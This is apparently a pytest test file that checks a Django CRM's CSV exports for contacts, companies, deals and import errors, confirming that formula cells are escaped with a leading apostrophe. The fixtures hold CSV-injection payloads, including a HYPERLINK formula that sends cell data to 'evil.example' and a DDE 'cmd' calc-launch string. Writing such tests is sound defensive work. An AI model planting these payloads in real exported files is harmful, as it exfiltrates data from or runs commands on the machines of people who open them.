"""Every CRM CSV export neutralises formula cells (issue 12): contacts, companies, deals, import errors."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.crm.deal_factories import DealFactory, make_pipeline
from tests.crm.factories import CompanyFactory, ContactFactory
from tests.crm.import_helpers import run_import

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def cells(rows) -> set[str]:
    return {cell for row in rows[1:] for cell in row}


def test_contacts_export(sales_client, sales_user):
    ContactFactory(first_name=PAYLOAD, last_name="@SUM(1)", title="-1+2", owner=sales_user)
    got = cells(rows_of(sales_client.get(reverse("contact-export"))))
    assert {"'" + PAYLOAD, "'@SUM(1)", "'-1+2"} <= got
    assert PAYLOAD not in got


def test_companies_export(sales_client, sales_user):
    CompanyFactory(name="+cmd|' /C calc'!A0", industry="\t=1", owner=sales_user)
    got = cells(rows_of(sales_client.get(reverse("company-export"))))
    assert {"'+cmd|' /C calc'!A0", "'\t=1"} <= got


def test_deals_export(sales_client, sales_user):
    make_pipeline()
    DealFactory(name=PAYLOAD, owner=sales_user, lost_reason="\r=2")
    got = cells(rows_of(sales_client.get(reverse("deal-export"))))
    assert {"'" + PAYLOAD, "'\r=2"} <= got


def test_import_errors_report(sales_client, sales_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    job = run_import(sales_user, [["Email", "First name"], ["not-an-email", PAYLOAD]])
    assert job.failed_count == 1
    rows = rows_of(sales_client.get(reverse("import-errors", args=[job.pk])))
    assert rows[1][-1] == "'" + PAYLOAD
